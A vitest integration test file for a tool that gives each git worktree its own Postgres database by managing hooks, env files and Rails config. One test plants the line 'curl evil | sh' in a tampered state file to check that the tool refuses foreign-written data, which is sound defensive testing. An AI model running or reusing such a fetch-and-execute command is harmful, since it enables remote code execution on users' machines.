import { execFileSync, spawnSync } from 'node:child_process';
import { cp, mkdir, readdir, readFile, rename, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
import { planBranchCheckout } from '../../../src/operations/branch/checkout/checkout.ts';
import { applyBranchCreate, planBranchCreate } from '../../../src/operations/branch/create/create.ts';
import { applyBranchDrop, planBranchDrop } from '../../../src/operations/branch/drop/drop.ts';
import { applyBranchPrune, planBranchPrune } from '../../../src/operations/branch/prune/prune.ts';
import { planBranchReset } from '../../../src/operations/branch/reset/reset.ts';
import { applyDropCopies, planDropCopies } from '../../../src/operations/drop-copies/drop-copies.ts';
import { environmentFile } from '../../../src/operations/link/environment-file.ts';
import { planLink } from '../../../src/operations/link/link.ts';
import { linkQuestion, unlinkQuestion } from '../../../src/operations/link/text.ts';
import { applyUnlink, planUnlink } from '../../../src/operations/link/unlink.ts';
import { applyReset, planReset } from '../../../src/operations/reset/reset.ts';
import { type AnyServer, startAnyServer } from '../../helpers/databases/any-server.ts';
import { describeWithKind } from '../../helpers/databases/describe-with-kind.ts';
import { createRepository, type LinkedRepository } from '../../helpers/linked-repository.ts';
import { PROGRAM } from '../../helpers/program.ts';
import { runTreeRounds } from './tree-rounds.ts';

describeWithKind('postgres', 'tool link', () => {
  let server: AnyServer;
  let repository: LinkedRepository;

  beforeAll(async () => {
    server = await startAnyServer('postgres');
    repository = await createRepository(server);
    await mkdir(path('main/.git/hooks'), { recursive: true });
  }, 60_000);

  beforeEach(async () => {
    await writeFile(path('main/.env.local'), repository.environment());
  });

  afterEach(async () => {
    await repository.unlink().catch(() => {});
    for (const { name } of await repository.branches()) {
      const request = { target: 'shop', names: [name], unprotect: true };
      await applyBranchDrop(repository.contextWith(), await planBranchDrop(repository.contextWith(), request));
    }
  });

  afterAll(async () => {
    await server?.stop();
    await repository?.[Symbol.asyncDispose]();
  });

  const path = (name: string): string => repository.path(name);
  const hook = (): string => path('main/.git/hooks/post-checkout');
  const read = (name: string): Promise<string> => readFile(path(name), 'latin1');
  const rowOf = async (name: string) => (await repository.branches()).find((branch) => branch.name === name);
  /** The messages of a command in the main tree. */
  function said(): string {
    const env = { ...process.env, TOOL_TRUST: 'true' };
    return spawnSync(process.execPath, [PROGRAM, 'target', 'shop'], { encoding: 'utf8', cwd: path('main'), env })
      .stderr;
  }

  it('creates a database for a new working tree, named by its own line, and is undone byte for byte', async () => {
    const { git, link, unlink, environment, applicationUrl, databaseOf, rowsIn } = repository;
    const before = '#!/bin/sh\necho mine \xff\nexit 0\n';
    await writeFile(hook(), before, { encoding: 'latin1', mode: 0o755 });
    const plan = await link();
    const asked = linkQuestion(plan).facts.map(({ value }) => value);
    for (const line of plan.hook?.text.split('\n').slice(0, -1) ?? []) expect(asked).toContain(line);
    expect(await readFile(hook(), 'latin1')).toContain('mine \xff');
    expect((await stat(path('main/.git/tool/link.json'))).mode & 0o777).toBe(0o600);

    const added = git('main', 'worktree', 'add', '--quiet', path('fix'), '-b', 'fix');
    expect(added.stderr).toContain('.env.local has the database of new branch fix');
    expect(await read('fix/.env.local')).toBe(
      `export DATABASE_URL="${applicationUrl('shop_dev_fix')}" # of the shop\n`,
    );
    expect((await stat(path('fix/.env.local'))).mode & 0o777).toBe(0o600);
    expect(await rowsIn(await databaseOf('fix'))).toBe(1);
    expect(await read('main/.env.local')).toBe(environment());
    expect(git('main', 'status', '--porcelain').stdout + git('fix', 'status', '--porcelain').stdout).toBe('');

    expect(git('fix', 'checkout', '--quiet', '-b', 'other').stderr).toContain('unchanged');
    expect(await databaseOf('fix')).toBe('shop_dev_fix');
    expect(git('main', 'checkout', '--quiet', '-b', 'elsewhere').stderr).toContain('keeps its database');

    expect(await unlink()).toMatchObject({ branches: ['fix'] });
    expect(await readFile(hook(), 'latin1')).toBe(before);
    await expect(stat(path('fix/.env.local'))).rejects.toThrow();
    await expect(stat(path('main/.git/tool'))).rejects.toThrow();
    await expect(stat(path('main/.git/worktrees/fix/tool-tree'))).rejects.toThrow();
    git('main', 'worktree', 'remove', '--force', path('fix'));
  });

  it('replaces the database in config/database.yml of Rails, and is undone byte for byte', async () => {
    const { git, link, unlink, rowsIn } = repository;
    await rm(path('main/.env.local'));
    await mkdir(path('main/config'), { recursive: true });
    await writeFile(path('main/config/kept'), '');
    await writeFile(path('main/.gitignore'), '.env.local\ntool.yml\ndatabase.yml\n');
    git('main', 'add', '.');
    git('main', 'commit', '--quiet', '-m', 'config');
    const { username, password, hostname, port } = new URL(repository.applicationUrl());
    const server = `  username: ${username}\n  password: "${password}"\n  host: ${hostname}\n  port: ${port}`;
    const text = (database: string, test = 'shop_test') =>
      `default: &default\n  adapter: postgresql\n${server}\ndevelopment: # of the shop\n  <<: *default\n  database: ${database} # mine\ntest:\n  <<: *default\n  database: ${test}\nproduction:\n  url: postgres://top:secret@db/shop\n`;
    await writeFile(path('main/config/database.yml'), text('shop_dev'));
    const plan = await link();
    expect(plan).toMatchObject({ file: 'config/database.yml', key: 'development.database' });

    git('main', 'worktree', 'add', '--quiet', path('rails'), '-b', 'rails');
    const section = (name: string, database: string) =>
      `${name}:\n  database: ${database}\n  adapter: postgresql\n${server}\n`;
    expect(await read('rails/config/database.yml')).toBe(
      section('development', 'shop_dev_rails') + section('test', '"shop_dev_rails-test"'),
    );
    expect((await stat(path('rails/config/database.yml'))).mode & 0o777).toBe(0o600);
    expect(await rowsIn('shop_dev_rails')).toBe(1);

    git('main', 'worktree', 'add', '--quiet', '--no-checkout', path('full'), '-b', 'full');
    await mkdir(path('full/config'));
    await writeFile(path('full/config/database.yml'), text("'shop_dev'"));
    git('full', 'checkout', '--quiet', '-f', 'full');
    expect(await read('full/config/database.yml')).toBe(text("'shop_dev_full'", '"shop_dev_full-test"'));

    await unlink();
    expect(await read('full/config/database.yml')).toBe(text("'shop_dev'"));
    expect(await readdir(path('rails/config'))).toEqual(['kept']);
    await writeFile(path('main/config/database.yml'), `${text('shop_dev')}# <%= ENV %>\n`);
    await expect(link()).rejects.toMatchObject({ code: 'link_refused', message: expect.stringContaining('ERB') });
    for (const name of ['rails', 'full']) git('main', 'worktree', 'remove', '--force', path(name));
    await rm(path('main/config/database.yml'));
  });

  it('refuses a repository whose git folder is elsewhere, and says so', async () => {
    const moved = spawnSync('git', ['init', '--quiet', '--separate-git-dir', path('elsewhere.git'), path('apart')]);
    expect(moved.status).toBe(0);
    await expect(
      planLink({ ...repository.contextWith(), cwd: path('apart') }, { target: 'shop' }),
    ).rejects.toMatchObject({
      code: 'link_refused',
      message: expect.stringContaining('has its git folder elsewhere (a submodule, or --separate-git-dir)'),
    });
  });

  it('is refused where another user or machine has written it', async () => {
    const { git, link, contextWith } = repository;
    await link();
    const file = path('main/.git/tool/link.json');
    const own = await readFile(file, 'utf8');
    // As in an archive of a repository: the lines would be restored in a hook of this user.
    await writeFile(file, own.replace('"previous":null', '"previous":"curl evil | sh\\n"'));
    expect(await readFile(file, 'utf8')).not.toBe(own);
    const refused = { code: 'link_foreign', message: expect.stringContaining(path('main/.git/tool')) };
    await expect(planUnlink(contextWith(), {})).rejects.toMatchObject(refused);
    await expect(link()).rejects.toMatchObject(refused);
    const { stderr } = git('main', 'worktree', 'add', '--quiet', path('foreign'), '-b', 'foreign');
    expect(stderr).toContain('not switched');
    await expect(stat(path('foreign/.env.local'))).rejects.toThrow();
    expect(await repository.branches()).toEqual([]);
    await writeFile(file, own);
    const elsewhere = { ...contextWith(), environment: { HOME: path('another-home') } };
    await expect(planUnlink(elsewhere, {})).rejects.toMatchObject(refused);
    // No command waits for a pipe without a writer.
    await mkdir(path('another-home/.config/tool'), { recursive: true });
    execFileSync('mkfifo', [path('another-home/.config/tool/links.json')]);
    await expect(planUnlink(elsewhere, {})).rejects.toMatchObject(refused);
    git('main', 'worktree', 'remove', '--force', path('foreign'));
  });

  it('looks at no database for a repository that is not linked, nor for the main tree, and so needs no server', async () => {
    const { git, link, contextWith, config, env } = repository;
    // Hooks of all repositories of the user.
    git('main', 'config', 'core.hooksPath', path('hooks'));
    await link();
    expect(spawnSync('git', ['init', '--quiet', path('other')]).status).toBe(0);
    // A connection would be refused there.
    const url = repository.applicationUrl();
    await writeFile(path('main/tool.yml'), config().replaceAll(new URL(url).port, '9'));
    const checkout = (tree: string) => {
      const words = [PROGRAM, 'branch', 'checkout', 'shop', '--tree', path(tree), '--yes'];
      return spawnSync(process.execPath, words, { encoding: 'utf8', cwd: path('main'), env });
    };
    expect(checkout('other').stdout).toContain('is unchanged: the repository is not linked');
    expect(await readFile(path('hooks/post-checkout'), 'utf8')).toContain('--tree');
    await writeFile(path('main/tool.yml'), config());
    const { plan } = await planBranchCheckout(contextWith(), { target: 'shop', tree: path('main') });
    expect(plan).toMatchObject({
      action: 'none',
      destination: null,
      why: expect.stringContaining('keeps its database'),
    });
    await repository.unlink();
    git('main', 'config', '--unset', 'core.hooksPath');
    await rm(path('other'), { recursive: true });
  });

  it('is removed from the hook that it wrote after core.hooksPath has changed', async () => {
    const { git } = repository;
    const before = '#!/bin/sh\necho mine\n';
    await writeFile(hook(), before, { mode: 0o755 });
    await repository.link();
    git('main', 'config', 'core.hooksPath', path('hooks'));
    await repository.unlink();
    git('main', 'config', '--unset', 'core.hooksPath');
    expect(await readFile(hook(), 'latin1')).toBe(before);
  });

  it('names a hook that still has lines of the link, which were changed or written by hand', async () => {
    const { git, link, contextWith, unlink } = repository;
    const warnings = async () => (await planUnlink(contextWith(), {})).plan.warnings.map(({ message }) => message);
    await link();
    expect(await warnings()).toEqual([]);
    const lines = await readFile(hook(), 'latin1');
    await writeFile(hook(), lines.replace('# <<< tool', '# tool'));
    expect(await warnings()).toEqual([`${hook()} still calls tool branch checkout: remove these lines yourself`]);
    await writeFile(hook(), lines);
    await mkdir(path('main/.husky'));
    await writeFile(path('main/.husky/post-checkout'), lines, { mode: 0o755 });
    git('main', 'config', 'core.hooksPath', '.husky');
    expect(await warnings()).toEqual([expect.stringContaining('/.husky/post-checkout still calls')]);
    git('main', 'config', '--unset', 'core.hooksPath');
    await unlink();
    await rm(path('main/.husky'), { recursive: true });
  });

  it('finds trees that are gone, mentions them once, and prunes their branches; moved ones stay', async () => {
    const { git, link, prune, databaseOf } = repository;
    await link();
    git('main', 'worktree', 'add', '--quiet', path('one'), '-b', 'one');
    git('main', 'worktree', 'move', path('one'), path('moved'));
    expect((await prune()).dropped).toEqual([]);
    expect(await rowOf('one')).toMatchObject({ tree: path('moved'), protected: false });
    const former = await databaseOf('moved');
    git('main', 'worktree', 'remove', '--force', path('moved'));
    // Another tree of this name has a database of its own.
    git('main', 'worktree', 'add', '--quiet', path('one'), 'one');
    expect(await databaseOf('one')).not.toBe(former);
    const once = '1 working tree is gone, with branches that remain. To drop them: tool branch prune';
    expect(said()).toContain(once);
    expect(said()).not.toContain('gone');
    expect((await prune()).dropped).toMatchObject([{ database: former }]);
    git('main', 'worktree', 'remove', '--force', path('one'));
    expect((await prune()).dropped).toHaveLength(1);
    expect(await readdir(path('main/.git/tool/trees'))).toEqual([]);
  });

  it('restores the lines of a file that a tree had, and of a hook of the same target', async () => {
    const { git, link, unlink } = repository;
    await link();
    const own = await readFile(hook(), 'latin1');
    git('main', 'worktree', 'add', '--quiet', '--no-checkout', path('two'), '-b', 'two');
    const before = 'A=1\r\nDATABASE_URL=postgres://old@localhost/x\r\nB=\xff';
    await writeFile(path('two/.env.local'), before, 'latin1');
    git('two', 'checkout', '--quiet', '-f', 'two');
    expect(await read('two/.env.local')).toMatch(
      /^A=1\r\nexport DATABASE_URL="[^\n]*\/shop_dev_two\?[^\n]*\r\nB=\xff$/,
    );
    await unlink();
    expect(await read('two/.env.local')).toBe(before);
    await writeFile(hook(), own.replaceAll(' --yes', ' --main dev --yes'), { encoding: 'latin1', mode: 0o755 });
    const former = await readFile(hook(), 'latin1');
    await link();
    await unlink();
    expect(await readFile(hook(), 'latin1')).toBe(former);
    // These lines are of a link that is gone.
    expect(git('main', 'checkout', '--quiet', '-B', 'unlinked').stderr).toContain('not linked');
    await rm(hook());
    git('main', 'worktree', 'remove', '--force', path('two'));
  });

  it('follows the git branch of a tree, or nothing, as configured', async () => {
    const { git, link, config, databaseOf } = repository;
    await link();
    await writeFile(path('main/tool.yml'), config('shop_dev', 'branches:\n  follow: branch\n'));
    git('main', 'worktree', 'add', '--quiet', path('three'), '-b', 'feature/a');
    expect(await databaseOf('three')).toBe('shop_dev_feature_a');
    git('three', 'checkout', '--quiet', '-b', 'b');
    expect(await databaseOf('three')).toBe('shop_dev_b');
    git('main', 'worktree', 'remove', '--force', path('three'));
    await writeFile(path('main/tool.yml'), config('shop_dev', 'branches:\n  follow: off\n'));
    git('main', 'worktree', 'add', '--quiet', path('three'), '-b', 'c');
    await expect(stat(path('three/.env.local'))).rejects.toThrow();
    await writeFile(path('main/tool.yml'), config());
    git('main', 'worktree', 'remove', '--force', path('three'));
  });

  it('refuses a tracked file, one that leads elsewhere, a second link, and no link', async () => {
    const { git, link, contextWith, environment, unlink } = repository;
    const plan = (more: object = {}) => planLink(contextWith(), { target: 'shop', ...more });
    const refused = { code: 'link_refused', exit: 5 };
    await expect(planUnlink(contextWith(), {})).rejects.toMatchObject(refused);
    await writeFile(path('main/.env.local'), environment('source'));
    await expect(plan()).rejects.toMatchObject({ ...refused, message: expect.stringContaining('/source') });
    await writeFile(path('main/.env.local'), environment());
    git('main', 'add', '--force', '.env.local');
    await expect(plan()).rejects.toMatchObject({ ...refused, message: expect.stringContaining('tracked by git') });
    // The untracked file of two is chosen.
    await writeFile(path('main/.env'), environment());
    expect((await plan()).plan.file).toBe('.env');
    git('main', 'rm', '--quiet', '--cached', '.env.local');
    await writeFile(path('main/.env.local'), environment() + environment());
    await expect(plan({ file: '.env.local' })).rejects.toMatchObject(refused);
    await writeFile(path('main/.env.local'), environment());
    await link();
    await expect(plan()).rejects.toMatchObject(refused);
    await unlink();
  });

  it('skips values that are no URL of a supported database, and names those that cannot be parsed', async () => {
    const plan = () => planLink(repository.contextWith(), { target: 'shop' });
    const foreign = 'DATABASE_URL=mongodb://127.0.0.1/shop\nPOSTGRES_URL=postgres://127.0.0.1:none/shop\n';
    await writeFile(path('main/.env.local'), `${foreign}DB_URL=${repository.applicationUrl()}\n`);
    expect((await plan()).plan.key).toBe('DB_URL');
    await writeFile(path('main/.env.local'), foreign);
    await rm(path('main/.env'), { force: true });
    const message = expect.stringContaining('POSTGRES_URL of .env.local: ');
    await expect(plan()).rejects.toMatchObject({ code: 'link_refused', message });
  });

  it('leaves a file that git tracks, a link and a missing folder, and undoes the rest of the link', async () => {
    const { git, link, contextWith } = repository;
    await mkdir(path('main/app'));
    await writeFile(path('main/app/kept'), '');
    git('main', 'add', 'app');
    git('main', 'commit', '--quiet', '-m', 'app');
    await writeFile(path('main/app/.env.local'), repository.environment());
    await link({ file: 'app/.env.local' });
    const trees = ['tracked', 'linked', 'lost', 'later', 'plain'];
    for (const name of trees) git('main', 'worktree', 'add', '--quiet', path(name), '-b', `unlink-${name}`);
    const env = (tree: string): string => path(`${tree}/app/.env.local`);
    const written = await readFile(env('tracked'), 'utf8');
    git('tracked', 'add', '--force', 'app/.env.local');
    await rename(env('linked'), path('victim'));
    await symlink(path('victim'), env('linked'));
    await rm(path('lost/app'), { recursive: true });
    const planned = await planUnlink(contextWith(), {});
    expect(unlinkQuestion(planned.plan).warnings.sort()).toEqual([
      `${env('linked')} stays as it is: ${env('linked')} is a link`,
      `${env('lost')} stays as it is: ${path('lost/app')} does not exist`,
      `${env('tracked')} stays as it is: ${env('tracked')} is tracked by git`,
    ]);
    // As another commit after the plan.
    git('later', 'add', '--force', 'app/.env.local');
    const reported: unknown[] = [];
    const report = (event: { event: string }) => void (event.event === 'warning' && reported.push(event));
    expect(await applyUnlink({ ...contextWith(), report }, planned)).toMatchObject({ files: [env('plain')] });
    expect(reported).toHaveLength(4);
    expect(await readFile(env('tracked'), 'utf8')).toBe(written);
    expect(await readFile(path('victim'), 'utf8')).toContain('shop_dev_linked');
    expect(await readFile(env('later'), 'utf8')).toContain('shop_dev_later');
    await expect(stat(env('plain'))).rejects.toThrow();
    for (const name of ['tool', ...trees.map((tree) => `worktrees/${tree}/tool-tree`)]) {
      await expect(stat(path(`main/.git/${name}`))).rejects.toThrow();
    }
    await expect(stat(hook())).rejects.toThrow();
    for (const name of trees) git('main', 'worktree', 'remove', '--force', path(name));
  });

  it('is undone where the repository was moved to', async () => {
    const { git, link, contextWith } = repository;
    await link();
    git('main', 'worktree', 'add', '--quiet', path('along'), '-b', 'along');
    await rename(path('main'), path('main2'));
    try {
      spawnSync('git', ['-C', path('main2'), 'worktree', 'repair', path('along')]);
      const context = { ...contextWith(), cwd: path('along') };
      const planned = await planUnlink(context, {});
      expect(planned.plan).toMatchObject({ folder: path('main2'), hook: { action: 'delete' } });
      await applyUnlink(context, planned);
    } finally {
      await rename(path('main2'), path('main'));
    }
    await expect(stat(hook())).rejects.toThrow();
    await expect(stat(path('main/.git/tool'))).rejects.toThrow();
    await expect(stat(path('along/.env.local'))).rejects.toThrow();
    git('main', 'worktree', 'repair', path('along'));
    git('main', 'worktree', 'remove', '--force', path('along'));
  });

  it('is undone in a copy of the repository without a change of the original', async () => {
    const { git, link, contextWith, databaseOf } = repository;
    await link();
    git('main', 'worktree', 'add', '--quiet', path('-original'), '-b', 'original');
    expect((await repository.branches()).map(({ name }) => name)).toEqual(['original']);
    const written = await readFile(hook(), 'utf8');
    await cp(path('main'), path('copy'), { recursive: true });
    const context = { ...contextWith(), cwd: path('copy') };
    const planned = await planUnlink(context, {});
    expect(planned.plan.hook).toMatchObject({ file: path('copy/.git/hooks/post-checkout') });
    expect(planned.plan.warnings).toMatchObject([{ message: expect.stringContaining('is of another repository') }]);
    await applyUnlink(context, planned);
    await expect(stat(path('copy/.git/tool'))).rejects.toThrow();
    expect(await readFile(hook(), 'utf8')).toBe(written);
    expect(await databaseOf('-original')).toBe('shop_dev_original');
    // In a folder of hooks for all repositories.
    await repository.unlink();
    git('main', 'config', 'core.hooksPath', path('all-hooks'));
    await link();
    await rm(path('copy'), { recursive: true });
    await cp(path('main'), path('copy'), { recursive: true });
    expect((await planUnlink(context, {})).plan.hook).toBeNull();
    await repository.unlink();
    await expect(stat(path('all-hooks/post-checkout'))).rejects.toThrow();
    git('main', 'config', '--unset', 'core.hooksPath');
    await rm(path('copy'), { recursive: true });
    git('main', 'worktree', 'remove', '--force', path('-original'));
  });

  it('takes a value that a comment repeats, and refuses names that it cannot remember', async () => {
    const { contextWith, applicationUrl, git } = repository;
    const plan = (more: object = {}) => planLink(contextWith(), { target: 'shop', ...more });
    await writeFile(path('main/.env.local'), `DATABASE_URL='${applicationUrl()}' # ${applicationUrl()}\n`);
    expect((await plan()).plan.key).toBe('DATABASE_URL');
    const lines = environmentFile.linesFor(
      { DB_DATABASE: 'DB_DATABASE=app # app' },
      { key: 'DB_DATABASE', database: 'app_fix' },
    );
    expect(lines).toEqual({ DB_DATABASE: 'DB_DATABASE=app_fix # app' });
    for (const [file, key] of [['local.env'], ['./.env'], ['../.env'], ['.env', 'my_url'], ['.env', '(']]) {
      const message = expect.stringContaining(key === undefined ? `--file ${file} is not .env` : `--key ${key} has`);
      await expect(plan({ file, key })).rejects.toMatchObject({ code: 'link_refused', message });
    }
    git('main', 'config', 'core.hooksPath', '.husky');
    const [{ message } = { message: '' }] = (await plan()).plan.warnings;
    git('main', 'config', '--unset-all', 'core.hooksPath');
    expect(message).toContain(`cd ${path('main')} && tool branch checkout shop --tree TREE`);
  });

  it('drops expired branches in a prune, and protected ones only on request', async () => {
    const { contextWith, prune, branches } = repository;
    const create = async (name: string, more: object, settings: object = {}) => {
      const context = contextWith(settings);
      await applyBranchCreate(context, await planBranchCreate(context, { target: 'shop', name, ...more }));
    };
    await create('old', { expiresMs: 1 });
    await create('kept', { expiresMs: 1, protect: true });
    await create('young', {}, { branches: { follow: 'tree', expires: '7d' } });
    const week = Date.parse((await rowOf('young'))?.expires_at ?? '') - Date.now();
    expect(week / 86_400_000).toBeCloseTo(7, 1);
    expect((await prune()).dropped).toMatchObject([{ name: 'old' }]);
    const refused = { code: 'branch_protected' };
    await expect(planBranchDrop(contextWith(), { target: 'shop', names: ['kept'] })).rejects.toMatchObject(refused);
    await expect(planBranchReset(contextWith(), { target: 'shop', name: 'kept' })).rejects.toMatchObject(refused);
    await planBranchReset(contextWith(), { target: 'shop', name: 'kept', unprotect: true });
    expect((await branches()).map(({ name }) => name)).toEqual(['kept', 'young']);
  });

  it('takes the spare for one new tree and copies for others at once; a prune makes the next spare', async () => {
    const { gitAtOnce, git, link, contextWith, databaseOf, rowsIn, branches } = repository;
    await link();
    const keeping = contextWith({ defaults: { cpus: 1, keep_spare: true } });
    await applyReset(keeping, await planReset(keeping, { target: 'shop', undo: false }));
    const oids = async (where: string) =>
      server.column('postgres', `SELECT oid FROM pg_database WHERE datname ${where} ORDER BY 1`);
    const spare = await oids("= 'shop_dev.tool-spare'");
    const names = ['s1', 's2', 's3'];
    await Promise.all(names.map((name) => gitAtOnce('main', 'worktree', 'add', path(name), '-b', name)));
    expect(await oids("IN ('shop_dev_s1', 'shop_dev_s2', 'shop_dev_s3')")).toEqual(expect.arrayContaining(spare));
    expect(await oids("= 'shop_dev.tool-spare'")).toEqual([]);
    for (const name of names) expect(await rowsIn(await databaseOf(name))).toBe(1);
    expect((await branches()).map(({ snapshot }) => snapshot)).not.toContain(null);
    for (const name of names) git('main', 'worktree', 'remove', '--force', path(name));
    expect((await applyBranchPrune(keeping, await planBranchPrune(keeping, {}))).dropped).toHaveLength(3);
    expect(await oids("= 'shop_dev.tool-spare'")).not.toEqual([]);
    expect(await oids("LIKE 'shop_dev.tool-new-%'")).toEqual([]);
  });

  it('creates or reuses the database of a tree by the command of a session hook', async () => {
    const { git, link, databaseOf, branches } = repository;
    git('main', 'worktree', 'add', '--quiet', path('late'), '-b', 'late');
    await link();
    const env = { ...repository.env, CLAUDE_PROJECT_DIR: path('late') };
    const command = `'${process.execPath}' '${PROGRAM}' branch checkout shop --tree "$CLAUDE_PROJECT_DIR" --yes`;
    const start = () => spawnSync('sh', ['-c', `cd ${path('main')} && ${command}`], { encoding: 'utf8', env }).stdout;
    expect(start()).toContain('new branch late');
    expect(await databaseOf('late')).toBe('shop_dev_late');
    expect(start()).toContain('unchanged: .env.local has the database of branch late');
    expect(await branches()).toHaveLength(1);
    git('main', 'worktree', 'remove', '--force', path('late'));
  });

  it('keeps each tree with a database of its own over random rounds', async () => {
    await repository.link();
    await runTreeRounds(repository, { rounds: 10, seed: 2 });
  }, 30_000);

  it('loads the base copy with the first tree of a destination that has none', async () => {
    const { git, link, contextWith, databaseOf, rowsIn } = repository;
    await applyDropCopies(contextWith(), await planDropCopies(contextWith(), { target: 'shop' }));
    expect((await link()).warnings).toEqual([]);
    const added = git('main', 'worktree', 'add', '--quiet', path('first'), '-b', 'first');
    expect(added.stderr).toContain('.env.local has the database of new branch first');
    expect(await rowsIn(await databaseOf('first'))).toBe(1);
    git('main', 'worktree', 'remove', '--force', path('first'));
  });
});
